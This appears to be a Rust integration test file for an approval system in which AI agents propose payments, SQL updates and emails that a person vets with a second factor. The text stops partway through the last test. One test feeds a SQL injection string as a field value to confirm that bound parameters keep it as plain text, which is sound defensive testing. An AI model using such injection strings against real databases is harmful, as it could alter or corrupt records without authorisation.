fn openapi_fixture(name: &str) -> String {
    std::fs::read_to_string(
        std::path::PathBuf::from(
            std::env::var_os("CARGO_MANIFEST_DIR")
                .unwrap_or_else(|| env!("CARGO_MANIFEST_DIR").into()),
        )
        .join("tests/openapi")
        .join(name),
    )
    .unwrap()
}

#[test]
fn an_openapi_document_in_yaml_with_refs_becomes_descriptors() {
    let imported = countersign_app::openapi::import(&openapi_fixture("payouts.yaml")).unwrap();
    assert_eq!(imported.count, 4, "{}", imported.toml);
    let refund = explain_with_pack(
        &imported.toml,
        r#"{"summary":"Refund Ana","purpose":"x","artifact":{"kind":"http","credential":null,"method":"POST","url":"https://api.sandbox.acmepay.example/v2/refunds","headers":{"Content-Type":"application/json"},"body":{"capture_id":"CAP-1","amount":{"currency_code":"EUR","value":"12.50"}}}}"#,
    );
    assert_eq!(
        refund.headline,
        "Refund a captured payment for €12.50 (Acme Payouts)"
    );
    assert_eq!(refund.action, countersign_core::Action::Payment);
    assert!(
        refund
            .risks
            .iter()
            .any(|r| r.code == countersign_core::RiskCode::MoneyMovement)
    );
    let payout = explain_with_pack(
        &imported.toml,
        r#"{"summary":"Pay Bo","purpose":"x","artifact":{"kind":"http","credential":null,"method":"POST","url":"https://api.acmepay.example/v2/payouts","headers":{"Content-Type":"application/json"},"body":{"recipient_email":"bo@example.com","amount":{"currency_code":"USD","value":"40.00"},"send_on":"2026-12-24"}}}"#,
    );
    assert_eq!(
        payout.headline,
        "Sends money to a recipient by email for $40.00 to bo@example.com (Acme Payouts)"
    );
    let cancel = explain_with_pack(
        &imported.toml,
        r#"{"summary":"Cancel it","purpose":"x","artifact":{"kind":"http","credential":null,"method":"DELETE","url":"https://api.acmepay.example/v2/payouts/PO-77"}}"#,
    );
    assert_eq!(
        cancel.headline,
        "Cancel an unclaimed payout PO-77 (Acme Payouts)"
    );
    // A request the document's schema does not fit (no amount) falls back to the generic words.
    let partial = explain_with_pack(
        &imported.toml,
        r#"{"summary":"Refund","purpose":"x","artifact":{"kind":"http","credential":null,"method":"POST","url":"https://api.acmepay.example/v2/refunds","headers":{"Content-Type":"application/json"},"body":{"capture_id":"CAP-1"}}}"#,
    );
    assert!(
        partial.headline.starts_with("Refund"),
        "{}",
        partial.headline
    );
    assert!(!partial.headline.contains('{'), "{}", partial.headline);
}

#[test]
fn an_openapi_document_with_form_bodies_and_minor_units_becomes_descriptors() {
    let imported = countersign_app::openapi::import(&openapi_fixture("ledgerly.json")).unwrap();
    assert_eq!(imported.count, 3, "{}", imported.toml);
    let charge = explain_with_pack(
        &imported.toml,
        r#"{"summary":"Charge","purpose":"x","artifact":{"kind":"http","credential":null,"method":"POST","url":"https://api.ledgerly.example/v1/charges","headers":{"Content-Type":"application/x-www-form-urlencoded"},"body":"amount=2599&currency=usd&customer=cus_9&transfer_data%5Bdestination%5D=acct_4"}}"#,
    );
    assert_eq!(
        charge.headline,
        "Create a charge for $25.99 to acct_4 (Ledgerly)"
    );
    assert!(
        charge
            .details
            .iter()
            .any(|d| d.label == "Transfer data destination" && d.value == "acct_4"),
        "{:?}",
        charge.details
    );
    let delete = explain_with_pack(
        &imported.toml,
        r#"{"summary":"Remove","purpose":"x","artifact":{"kind":"http","credential":null,"method":"DELETE","url":"https://api.ledgerly.example/v1/customers/cus_9"}}"#,
    );
    assert_eq!(delete.headline, "Delete a customer cus_9 (Ledgerly)");
    assert!(
        delete
            .risks
            .iter()
            .any(|r| r.code == countersign_core::RiskCode::DeletesData)
    );
}

#[test]
fn importing_writes_the_pack_into_the_data_home_once() {
    let (_dir, home) = home();
    let text = openapi_fixture("ledgerly.json");
    let (path, imported) =
        countersign_app::openapi::import_into(&home, &text, "ledgerly", false).unwrap();
    assert_eq!(std::fs::read_to_string(&path).unwrap(), imported.toml);
    let again = countersign_app::openapi::import_into(&home, &text, "ledgerly", false);
    assert!(again.is_err(), "an existing pack is not written over");
    countersign_app::openapi::import_into(&home, &text, "ledgerly", true).unwrap();
    assert_eq!(home.descriptor_files().unwrap().len(), 1);
}

/// Enrols a second factor in the home's keychain namespace; returns its secret.
fn enrol_second_factor(home: &DataHome) -> String {
    let secret = countersign_app::totp::new_secret().unwrap();
    home.keychain()
        .store(
            countersign_app::totp::KEYCHAIN_ENTRY,
            &countersign_vault::Secret::new(secret.clone()),
        )
        .unwrap();
    secret
}

fn totp_now(secret: &str) -> String {
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    countersign_app::totp::code(&countersign_app::totp::decode(secret).unwrap(), now)
}

fn bill_routine(port: u16, max: &str, runs_per_day: u32) -> String {
    format!(
        r#"{{"summary":"Pay the power bill each month","purpose":"household bills","routine":{{
          "parameters": {{"amount": {{"type": "money", "currency": "USD", "max": "{max}"}}}},
          "steps": [{{"id": "pay", "artifact": {{"kind": "http", "credential": "bank", "method": "POST",
            "url": "http://127.0.0.1:{port}/v1/payees/acme-power/payments",
            "headers": {{"Content-Type": "application/json"}},
            "body": {{"amount": {{"$param": "amount"}}, "currency": "USD"}}}}}}],
          "trigger": {{"on_request": true}},
          "limits": {{"runs_per_day": {runs_per_day}, "total_money": "1000.00"}},
          "release": {{"fields": ["body.account"]}}}}}}"#
    )
}

/// A routine vetted once (its word and the second factor) runs within its bounds with no prompt,
/// once per request, audit first; outside them a run is held as a pending proposal; the agent
/// cannot change it (a change is a new routine); revoking stops it at once; the log verifies.
#[tokio::test]
async fn a_routine_runs_within_its_bounds_and_holds_what_is_outside_them() {
    let (_dir, home, audit, lifecycle, port, count) = loop_setup(false).await;
    lifecycle.agents().add("claude").await.unwrap();
    let routine = lifecycle
        .submit_routine("claude", &bill_routine(port, "200.00", 2))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(routine.status, countersign_app::RoutineStatus::Pending);
    assert!(
        routine.explanation.bounds[0].contains("at most $200.00"),
        "{:?}",
        routine.explanation.bounds
    );
    assert!(
        routine
            .explanation
            .headline
            .starts_with("Runs when its agent asks, at most: ")
    );
    // Not active yet: no run.
    let values = |amount: &str| {
        std::collections::BTreeMap::from([(
            "amount".to_owned(),
            countersign_core::json::Json::Number(amount.into()),
        )])
    };
    let early = lifecycle
        .run_routine(
            &routine.id,
            countersign_app::Requester::Agent("claude".into()),
            &values("10"),
        )
        .await;
    assert!(early.is_err());

    // Approving always needs the second factor.
    assert!(
        lifecycle
            .approve_routine(&routine.id, None)
            .await
            .unwrap_err()
            .to_string()
            .contains("enroll")
    );
    let secret = enrol_second_factor(&home);
    assert!(
        lifecycle
            .approve_routine(&routine.id, Some("000000"))
            .await
            .is_err()
    );
    let active = lifecycle
        .approve_routine(&routine.id, Some(&totp_now(&secret)))
        .await
        .unwrap();
    assert_eq!(active.status, countersign_app::RoutineStatus::Active);
    assert!(active.expires_at.is_some());

    // Within the bounds: runs at once, exactly once, released by the routine's rule.
    let run = lifecycle
        .run_routine(
            &routine.id,
            countersign_app::Requester::Agent("claude".into()),
            &values("150.00"),
        )
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        run.status,
        countersign_app::RunStatus::Succeeded,
        "{:?}",
        run.reason
    );
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 1);
    let released = run.agent_view().canonical();
    assert!(released.contains(r#""account":"4410""#), "{released}");
    assert!(!released.contains("123-45-6789"), "{released}");

    // Over the amount: held as a pending proposal linked to the routine, nothing sent.
    let held = lifecycle
        .run_routine(
            &routine.id,
            countersign_app::Requester::Agent("claude".into()),
            &values("250.00"),
        )
        .await
        .unwrap()
        .unwrap();
    assert_eq!(held.status, countersign_app::RunStatus::Held);
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 1);
    let proposal = lifecycle
        .store()
        .get(held.proposal_id.as_deref().unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(proposal.status, countersign_app::Status::Pending);
    assert_eq!(
        proposal.explanation.risks[0].code,
        countersign_core::RiskCode::RoutineRunHeld
    );
    assert!(
        proposal.explanation.risks[0]
            .message
            .contains("over the routine's most")
    );

    // The per-day limit: the second run of the day runs, the third is held.
    let second = lifecycle
        .run_routine(
            &routine.id,
            countersign_app::Requester::Person,
            &values("20"),
        )
        .await
        .unwrap()
        .unwrap();
    assert_eq!(second.status, countersign_app::RunStatus::Succeeded);
    let third = lifecycle
        .run_routine(
            &routine.id,
            countersign_app::Requester::Agent("claude".into()),
            &values("20"),
        )
        .await
        .unwrap()
        .unwrap();
    assert_eq!(third.status, countersign_app::RunStatus::Held);
    assert!(third.reason.unwrap().contains("today"));
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 2);

    // A value of the wrong type or an unknown parameter is refused, not run or held.
    let refused = lifecycle
        .run_routine(
            &routine.id,
            countersign_app::Requester::Agent("claude".into()),
            &std::collections::BTreeMap::from([(
                "credential".to_owned(),
                countersign_core::json::Json::String("stripe".into()),
            )]),
        )
        .await
        .unwrap()
        .unwrap_err();
    assert_eq!(refused.code, countersign_core::RefusalCode::UnknownField);

    // The agent cannot change it: the same text with a higher bound is a new routine to vet.
    let changed = lifecycle
        .submit_routine("claude", &bill_routine(port, "2000.00", 2))
        .await
        .unwrap()
        .unwrap();
    assert_ne!(changed.id, routine.id);
    assert_ne!(changed.routine_sha256, routine.routine_sha256);
    assert_eq!(changed.status, countersign_app::RoutineStatus::Pending);
    // Another agent cannot run it.
    assert!(
        lifecycle
            .run_routine(
                &routine.id,
                countersign_app::Requester::Agent("cursor".into()),
                &values("1")
            )
            .await
            .is_err()
    );

    // Revoked: stops at once.
    lifecycle
        .change_routine(
            &routine.id,
            countersign_app::RoutineChange::Revoke,
            "moved house",
        )
        .await
        .unwrap();
    assert!(
        lifecycle
            .run_routine(
                &routine.id,
                countersign_app::Requester::Person,
                &values("1")
            )
            .await
            .is_err()
    );
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 2);

    // Every step is in the log with the routine's hash, and the log verifies.
    let json = audit
        .export(ExportFormat::Json, &Filter::default())
        .await
        .unwrap();
    for event in [
        "routine.proposed",
        "routine.approved",
        "routine.run.started",
        "routine.run.succeeded",
        "routine.run.held",
        "routine.revoked",
        "grant.consumed",
        "execution.succeeded",
    ] {
        assert!(json.contains(event), "no {event} entry");
    }
    assert!(json.contains(&routine.routine_sha256));
    assert!(audit.verify(None).await.unwrap().intact());
}

fn env(name: &str) -> String {
    std::env::var(name).unwrap_or_else(|_| {
        panic!("{name} is not set: run through scripts/test.sh, which starts the SMTP server")
    })
}

/// Each evening, tomorrow's appointments are read from a real SQLite database (the date bound as
/// a value) and one reminder goes to each patient through a real SMTP server, recipients only from
/// that result; on its schedule, with no prompt; a time that passed long ago is recorded as missed
/// and not caught up; more rows than its most hold the run.
#[tokio::test]
async fn evening_reminders_read_sql_and_email_each_patient_on_schedule() {
    let (dir, home) = home();
    let audit = std::sync::Arc::new(Audit::open(&home, Actor::person("alice")).await.unwrap());
    let db = dir.path().join("clinic.db");
    let tomorrow = (time::OffsetDateTime::now_utc().date() + time::Duration::days(1)).to_string();
    {
        let options = sqlx::sqlite::SqliteConnectOptions::new()
            .filename(&db)
            .create_if_missing(true);
        let mut conn = sqlx::SqliteConnection::connect_with(&options)
            .await
            .unwrap();
        sqlx::raw_sql(&format!(
            "CREATE TABLE appointments (day TEXT, at TEXT, first_name TEXT, email TEXT);
             INSERT INTO appointments VALUES ('{tomorrow}', '09:30', 'Ana', 'ana@clinic.example'),
               ('{tomorrow}', '11:00', 'Ben', 'ben@clinic.example'), ('2020-01-01', '10:00', 'Old', 'old@clinic.example');"
        ))
        .execute(&mut conn)
        .await
        .unwrap();
    }
    let credentials = countersign_app::Credentials::open(&home).await.unwrap();
    let read_only = countersign_core::credential::CredentialMeta {
        name: "clinic-db".into(),
        description: "Appointments".into(),
        kind: countersign_core::credential::CredentialKind::Sql {
            dialect: countersign_core::credential::SqlDialect::Sqlite,
            url: format!("sqlite://{}", db.display()),
            read_only: true,
            max_rows: 100,
        },
        requires_second_factor: false,
        prescriber: None,
    };
    credentials
        .add(
            &audit,
            &read_only,
            &countersign_vault::Secret::new("unused".into()),
        )
        .await
        .unwrap();
    let server = env("COUNTERSIGN_TEST_SMTP");
    let (host, port) = server.rsplit_once(':').unwrap();
    let mail = countersign_core::credential::CredentialMeta {
        name: "front-desk".into(),
        description: "Front desk".into(),
        kind: countersign_core::credential::CredentialKind::Smtp {
            host: host.into(),
            port: port.parse().unwrap(),
            tls: countersign_core::credential::SmtpTls::PlainLoopback,
            username: env("COUNTERSIGN_TEST_SMTP_USER"),
            from: "frontdesk@clinic.example".into(),
            allowed_domains: vec!["clinic.example".into()],
        },
        requires_second_factor: false,
        prescriber: None,
    };
    credentials
        .add(
            &audit,
            &mail,
            &countersign_vault::Secret::new(env("COUNTERSIGN_TEST_SMTP_PASSWORD")),
        )
        .await
        .unwrap();
    let secret = enrol_second_factor(&home);
    let lifecycle = countersign_app::Lifecycle::open_standard(&home, std::sync::Arc::clone(&audit))
        .await
        .unwrap();
    lifecycle.agents().add("scheduler").await.unwrap();
    let marker = format!("rem-{}", std::process::id());
    let routine = |max: u32| {
        format!(
            r#"{{"summary":"Remind tomorrow's patients","purpose":"fewer missed visits","routine":{{
          "parameters": {{"day": {{"type": "date", "within_days": 1}}}},
          "steps": [
            {{"id": "read", "artifact": {{"kind": "sql", "database": "clinic-db",
              "statement": "SELECT email, first_name, at FROM appointments WHERE day = ? ORDER BY at",
              "parameters": [{{"$param": "day"}}]}},
             "extract": {{"email": {{"column": "email"}}, "first_name": {{"column": "first_name"}}, "at": {{"column": "at"}}}}}},
            {{"id": "remind", "for_each": {{"step": "read", "max": {max}}}, "artifact": {{"kind": "email",
              "account": "front-desk", "to": [{{"$row": "email"}}],
              "subject": "Your appointment tomorrow {marker}", "text": "Hello {{{{row.first_name}}}}, see you at {{{{row.at}}}}."}}}}
          ],
          "trigger": {{"schedule": {{"every": "day", "at": "18:00"}}}},
          "scheduled_parameters": {{"day": "+1"}},
          "limits": {{"runs_per_day": 1}},
          "release": "nothing"}}}}"#
        )
    };
    let approve = |text: String| {
        let lifecycle = &lifecycle;
        let secret = secret.clone();
        async move {
            let proposed = lifecycle
                .submit_routine("scheduler", &text)
                .await
                .unwrap()
                .unwrap();
            lifecycle
                .approve_routine(&proposed.id, Some(&totp_now(&secret)))
                .await
                .unwrap()
        }
    };
    let reminders = approve(routine(40)).await;
    // 18:05 on the day it was approved: the time has come; a tick runs it once.
    let today = time::OffsetDateTime::now_utc().date();
    let evening = today.with_hms(18, 5, 0).unwrap().assume_utc();
    // The approval marks times before it as not missed; move the mark back to this morning.
    {
        let mut conn = sqlx::SqliteConnection::connect(&format!(
            "sqlite://{}",
            home.root().join("proposals.db").display()
        ))
        .await
        .unwrap();
        sqlx::query("UPDATE routines SET last_scheduled = ?")
            .bind(
                today
                    .with_hms(6, 0, 0)
                    .unwrap()
                    .assume_utc()
                    .unix_timestamp(),
            )
            .execute(&mut conn)
            .await
            .unwrap();
    }
    let started = lifecycle.routines_due(evening).await.unwrap();
    assert_eq!(started.len(), 1);
    assert_eq!(
        started[0].status,
        countersign_app::RunStatus::Succeeded,
        "{:?}",
        started[0].reason
    );
    assert_eq!(started[0].requested_by, "schedule");
    // The same time again: nothing (once per scheduled time).
    assert!(lifecycle.routines_due(evening).await.unwrap().is_empty());
    let mailbox = std::path::PathBuf::from(env("COUNTERSIGN_TEST_MAILBOX"));
    let mut to = Vec::new();
    for _ in 0..50 {
        to.clear();
        for entry in std::fs::read_dir(&mailbox).unwrap() {
            let path = entry.unwrap().path();
            if path.extension().is_some_and(|e| e == "eml") {
                let message = std::fs::read_to_string(&path).unwrap();
                if message.contains(&marker) {
                    let envelope: serde_json::Value = serde_json::from_str(
                        &std::fs::read_to_string(path.with_extension("json")).unwrap(),
                    )
                    .unwrap();
                    to.push((envelope["rcpt_tos"].clone(), message));
                }
            }
        }
        if to.len() >= 2 {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    assert_eq!(to.len(), 2, "one email per patient of tomorrow");
    let all: String = to.iter().map(|(r, m)| format!("{r} {m}")).collect();
    assert!(all.contains("ana@clinic.example") && all.contains("Hello Ana, see you at 09:30."));
    assert!(all.contains("ben@clinic.example") && all.contains("Hello Ben"));
    assert!(!all.contains("old@clinic.example"));

    // The next evening passes while no desk is open; two days later the old time is only
    // recorded as missed, not caught up.
    let later = evening + time::Duration::days(2) + time::Duration::hours(3);
    let ran = lifecycle.routines_due(later).await.unwrap();
    assert!(ran.is_empty());
    let runs = lifecycle.store().runs(&reminders.id).await.unwrap();
    assert_eq!(runs[0].status, countersign_app::RunStatus::Missed);

    // More patients than its most: held, nothing sent.
    lifecycle
        .change_routine(&reminders.id, countersign_app::RoutineChange::Revoke, "")
        .await
        .unwrap();
    let small = approve(routine(1)).await;
    let held = lifecycle
        .run_routine(
            &small.id,
            countersign_app::Requester::Person,
            &std::collections::BTreeMap::from([(
                "day".to_owned(),
                countersign_core::json::Json::String(tomorrow.clone()),
            )]),
        )
        .await
        .unwrap()
        .unwrap();
    assert_eq!(held.status, countersign_app::RunStatus::Held);
    assert!(held.reason.unwrap().contains("over its most of 1"));
    assert!(audit.verify(None).await.unwrap().intact());
}

/// SIGKILL during a routine's run: on restart the run is `outcome_unknown` and its execution
/// too; nothing is sent again (the server sees one request).
#[tokio::test]
async fn kill_9_during_a_routine_run_is_outcome_unknown_and_never_retried() {
    use std::io::{BufRead as _, BufReader};
    use std::sync::Arc;
    use std::sync::atomic::Ordering;

    let (port, requests) = silent_server();
    let (_dir, home) = home();
    let helper = example("run_routine_once");
    assert!(
        helper.is_file(),
        "{} is missing: run through cargo test",
        helper.display()
    );
    let mut child = std::process::Command::new(&helper)
        .arg(home.root())
        .arg(format!("http://127.0.0.1:{port}"))
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let line = lines.next().unwrap().unwrap();
    let routine_id = line.strip_prefix("routine ").unwrap().to_owned();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    while requests.load(Ordering::SeqCst) == 0 {
        assert!(
            std::time::Instant::now() < deadline,
            "the request never reached the server"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    child.kill().unwrap(); // SIGKILL, mid-request
    child.wait().unwrap();

    let audit = Arc::new(Audit::open(&home, Actor::person("alice")).await.unwrap());
    let lifecycle = countersign_app::Lifecycle::open_standard(&home, Arc::clone(&audit))
        .await
        .unwrap();
    lifecycle.recover().await.unwrap();
    let runs = lifecycle.store().runs(&routine_id).await.unwrap();
    assert_eq!(runs.len(), 1);
    assert_eq!(runs[0].status, countersign_app::RunStatus::OutcomeUnknown);
    // Recovering again changes nothing and sends nothing.
    lifecycle.recover().await.unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    assert_eq!(requests.load(Ordering::SeqCst), 1);
    let json = audit
        .export(
            ExportFormat::Json,
            &Filter {
                proposal: Some(runs[0].id.clone()),
                ..Filter::default()
            },
        )
        .await
        .unwrap();
    assert!(json.contains("execution.outcome_unknown"), "{json}");
    assert!(audit.verify(None).await.unwrap().intact());
}

/// On PostgreSQL: a routine marks one invoice paid, the invoice number and the note bound as
/// values (`$1`, `$2`), never spliced — a note that is SQL stays text; a number outside its
/// bounds is held and changes nothing; every run's statement is the vetted one, audited with the
/// routine's hash.
#[tokio::test]
async fn a_routine_updates_postgresql_with_bound_values_only() {
    // The credential's address has no password: the keychain holds it.
    let (address, password, admin_db) = fresh_database("routine").await;
    let mut db = sqlx::PgConnection::connect(&admin_db).await.unwrap();
    sqlx::raw_sql(
        "CREATE TABLE invoices (id int PRIMARY KEY, status text NOT NULL, note text);
         INSERT INTO invoices VALUES (1041, 'unpaid', NULL), (1042, 'unpaid', NULL), (9001, 'unpaid', NULL);",
    )
    .execute(&mut db)
    .await
    .unwrap();
    let (_dir, home) = home();
    let audit = std::sync::Arc::new(Audit::open(&home, Actor::person("alice")).await.unwrap());
    let credentials = countersign_app::Credentials::open(&home).await.unwrap();
    credentials
        .add(
            &audit,
            &countersign_core::credential::CredentialMeta {
                name: "billing".into(),
                description: "Clinic billing on PostgreSQL".into(),
                kind: countersign_core::credential::CredentialKind::Sql {
                    dialect: countersign_core::credential::SqlDialect::Postgres,
                    url: address.clone(),
                    read_only: false,
                    max_rows: 100,
                },
                requires_second_factor: false,
                prescriber: None,
            },
            &countersign_vault::Secret::new(password.expose().to_owned()),
        )
        .await
        .unwrap();
    let secret = enrol_second_factor(&home);
    let lifecycle = countersign_app::Lifecycle::open_standard(&home, std::sync::Arc::clone(&audit))
        .await
        .unwrap();
    lifecycle.agents().add("front-desk-bot").await.unwrap();
    let statement = "UPDATE invoices SET status = 'paid', note = $2 WHERE id = $1";
    let text = format!(
        r#"{{"summary":"Mark an invoice paid at the front desk","purpose":"payments taken in person","routine":{{
          "parameters": {{"invoice": {{"type": "integer", "min": 1000, "max": 1999}},
                          "note": {{"type": "string", "max_length": 80}}}},
          "steps": [{{"id": "mark", "artifact": {{"kind": "sql", "database": "billing",
            "statement": "{statement}",
            "parameters": [{{"$param": "invoice"}}, {{"$param": "note"}}]}}}}],
          "limits": {{"runs_per_day": 5}},
          "release": "all",
          "example": {{"note": "paid by card"}}}}}}"#
    );
    let proposed = lifecycle
        .submit_routine("front-desk-bot", &text)
        .await
        .unwrap()
        .unwrap();
    let routine = lifecycle
        .approve_routine(&proposed.id, Some(&totp_now(&secret)))
        .await
        .unwrap();
    let values = |invoice: i64, note: &str| {
        std::collections::BTreeMap::from([
            (
                "invoice".to_owned(),
                countersign_core::json::Json::parse(&invoice.to_string()).unwrap(),
            ),
            (
                "note".to_owned(),
                countersign_core::json::Json::String(note.into()),
            ),
        ])
    };
    let agent = countersign_app::Requester::Agent("front-desk-bot".into());
    let injection = "x'; UPDATE invoices SET status = 'paid'; --";
    let run = lifecycle
        .run_routine(&routine.id, agent.clone(), &values(1041, injection))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        run.status,
        countersign_app::RunStatus::Succeeded,
        "{:?}",
        run.reason
    );
    let rows: Vec<(i32, String, Option<String>)> =
        sqlx::query_as("SELECT id, status, note FROM invoices ORDER BY id")
            .fetch_all(&mut db)
            .await
            .unwrap();
    assert_eq!(
        rows,
        vec![
            (1041, "paid".to_owned(), Some(injection.to_owned())),
            (1042, "unpaid".to_owned(), None),
            (9001, "unpaid".to_owned(), None),
        ],
        "one row changed, the note stored as text"
    );

    // Outside the bounds: held as a proposal, nothing changed.
    let held = lifecycle
        .run_routine(&routine.id, agent, &values(9001, "paid"))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(held.status, countersign_app::RunStatus::Held);
    let unchanged: (String,) = sqlx::query_as("SELECT status FROM invoices WHERE id = 9001")
        .fetch_one(&mut db)
        .await
        .unwrap();
    assert_eq!(unchanged.0, "unpaid");
    let proposal = lifecycle
        .store()
        .get(held.proposal_id.as_deref().unwrap())
        .await
        .unwrap()
        .unwrap();
    assert!(
        proposal.artifact.contains(statement),
        "the held run's statement is the vetted one: {}",
        proposal.artifact
    );

    let json = audit
        .export(ExportFormat::Json, &Filter::default())
        .await
        .unwrap();
    assert!(json.contains(&routine.routine_sha256));
    assert!(json.contains("routine.run.succeeded") && json.contains("routine.run.held"));
    assert!(
        !json.contains(password.expose()),
        "the password is never in the log"
    );
    assert!(audit.verify(None).await.unwrap().intact());
    drop(db);
    let name = admin_db.rsplit('/').next().unwrap();
    let mut admin = sqlx::PgConnection::connect(&env("COUNTERSIGN_TEST_POSTGRES"))
        .await
        .unwrap();
    sqlx::raw_sql(&format!("DROP DATABASE {name} WITH (FORCE)"))
        .execute(&mut admin)
        .await
        .unwrap();
}

/// Seven days before its expiry a routine is shown as stopping soon; at its expiry it stops at
/// once: a run is refused, the routine reads as expired, and `routine.expired` is logged.
#[tokio::test]
async fn a_routine_warns_a_week_ahead_and_stops_at_its_expiry() {
    let (_dir, home, audit, lifecycle, port, count) = loop_setup(false).await;
    lifecycle.agents().add("claude").await.unwrap();
    let secret = enrol_second_factor(&home);
    let proposed = lifecycle
        .submit_routine("claude", &bill_routine(port, "200.00", 2))
        .await
        .unwrap()
        .unwrap();
    let routine = lifecycle
        .approve_routine(&proposed.id, Some(&totp_now(&secret)))
        .await
        .unwrap();
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    let line = countersign_app::present::routine_line(&routine, now);
    assert!(!line.expires_soon, "90 days ahead is not soon");
    let expires_at = routine.expires_at.unwrap();
    assert!(
        countersign_app::present::routine_line(&routine, expires_at - 6 * 24 * 3600).expires_soon
    );
    let set_expiry = |at: i64| {
        let home = home.clone();
        async move {
            let mut conn = sqlx::SqliteConnection::connect(&format!(
                "sqlite://{}",
                home.root().join("proposals.db").display()
            ))
            .await
            .unwrap();
            sqlx::query("UPDATE routines SET expires_at = ?")
                .bind(at)
                .execute(&mut conn)
                .await
                .unwrap();
        }
    };
    set_expiry(now - 1).await;
    let values = std::collections::BTreeMap::from([(
        "amount".to_owned(),
        countersign_core::json::Json::Number("10".into()),
    )]);
    let refused = lifecycle
        .run_routine(
            &routine.id,
            countersign_app::Requester::Agent("claude".into()),
            &values,
        )
        .await
        .unwrap_err();
    assert!(refused.to_string().contains("expired"), "{refused}");
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 0);
    let after = lifecycle
        .store()
        .routine(&routine.id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(after.status, countersign_app::RoutineStatus::Expired);
    // The person cannot run it either, and a later expiry date does not bring it back.
    set_expiry(now + 3600).await;
    assert!(
        lifecycle
            .run_routine(&routine.id, countersign_app::Requester::Person, &values)
            .await
            .is_err()
    );
    assert_eq!(count.load(std::sync::atomic::Ordering::SeqCst), 0);
    let json = audit
        .export(ExportFormat::Json, &Filter::default())
        .await
        .unwrap();
    assert!(json.contains("routine.expired"));
    assert!(audit.verify(None).await.unwrap().intact());
}

/// A fresh database on the test command's PostgreSQL: its address without the password, the
/// password, and the administrator's address of it (for the test's own changes).
async fn fresh_database(prefix: &str) -> (String, countersign_vault::Secret, String) {
    let admin = env("COUNTERSIGN_TEST_POSTGRES");
    let mut conn = sqlx::PgConnection::connect(&admin).await.unwrap();
    let name = format!(
        "{prefix}_{}_{}",
        std::process::id(),
        std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .subsec_nanos()
    );
    sqlx::raw_sql(&format!("CREATE DATABASE {name}"))
        .execute(&mut conn)
        .await
        .unwrap();
    let (base, _) = admin.rsplit_once('/').unwrap();
    let (user_and_password, host) = base
        .strip_prefix("postgres://")
        .unwrap()
        .split_once('@')
        .unwrap();
    let (user, password) = user_and_password.split_once(':').unwrap();
    (
        format!("postgres://{user}@{host}/{name}"),
        countersign_vault::Secret::new(password.to_owned()),
        format!("{base}/{name}"),
    )
}

/// One desk of a team: its data home (own keychain namespace), its own `bank` credential (its
/// own token) and its lifecycle on the team's queue.
struct TeamDesk {
    _dir: tempfile::TempDir,
    home: DataHome,
    audit: std::sync::Arc<Audit>,
    lifecycle: countersign_app::Lifecycle,
}

async fn team_desk(
    home: DataHome,
    dir: tempfile::TempDir,
    person: &str,
    port: u16,
    token: &str,
) -> TeamDesk {
    let audit = Audit::open(&home, Actor::person(person)).await.unwrap();
    assert!(
        audit.log().path().is_none(),
        "a team desk writes the team's log"
    );
    let credentials = countersign_app::Credentials::open(&home).await.unwrap();
    let meta = bank(port, false);
    credentials
        .add(&audit, &meta, &countersign_vault::Secret::new(token.into()))
        .await
        .unwrap();
    let audit = std::sync::Arc::new(audit);
    let lifecycle = countersign_app::Lifecycle::open_standard(&home, std::sync::Arc::clone(&audit))
        .await
        .unwrap();
    assert!(lifecycle.store().is_team());
    TeamDesk {
        _dir: dir,
        home,
        audit,
        lifecycle,
    }
}

/// Two desks on one team database (design.md §19): an agent added at one desk is the team's and
/// is accepted at the other; a proposal sent to one desk waits, and is announced, at both; when
/// both approve it at once exactly one decision counts and exactly one execution happens, with
/// the winning desk's own credential; the other desk is told who decided. With the database
/// gone nothing is approved or executed; when it is back the work goes on; the team's one chain
/// verifies and names both people.
#[tokio::test]
async fn two_desks_share_one_queue_and_exactly_one_executes() {
    let (address, password, admin_db) = fresh_database("queue").await;
    let (front_dir, front_home) = home();
    let (back_dir, back_home) = home();
    countersign_app::team::Team::init(&front_home, &address, &password, "Ana Admin")
        .await
        .unwrap();
    countersign_app::team::Team::join(&back_home, &address, &password)
        .await
        .unwrap();
    let (port, count, recorded) = recording_server(r#"{"balance":1200}"#);
    let front = team_desk(
        front_home,
        front_dir,
        "Ana Admin",
        port,
        "front-desk-token-0001",
    )
    .await;
    let back = team_desk(
        back_home,
        back_dir,
        "Ben Billing",
        port,
        "back-desk-token-0002",
    )
    .await;

    let key = front.lifecycle.agents().add("scribe").await.unwrap();
    assert_eq!(
        back.lifecycle
            .agents()
            .authenticate(key.expose())
            .await
            .unwrap()
            .as_deref(),
        Some("scribe"),
        "an agent belongs to the team"
    );

    let mut heard = back.lifecycle.store().subscribe();
    heard.borrow_and_update();
    let first = front
        .lifecycle
        .submit("scribe", &balance_proposal(port))
        .await
        .unwrap()
        .unwrap();
    tokio::time::timeout(std::time::Duration::from_secs(10), heard.changed())
        .await
        .expect("the other desk is told of a new proposal")
        .unwrap();
    let waiting = back.lifecycle.store().pending().await.unwrap();
    assert_eq!(waiting.len(), 1);
    assert_eq!(waiting[0].id, first.id);
    assert_eq!(
        back.lifecycle.store().lines(true, 10).await.unwrap()[0].headline,
        first.explanation.headline
    );

    let mut ids = vec![first.id.clone()];
    for _ in 0..7 {
        ids.push(
            back.lifecycle
                .submit("scribe", &balance_proposal(port))
                .await
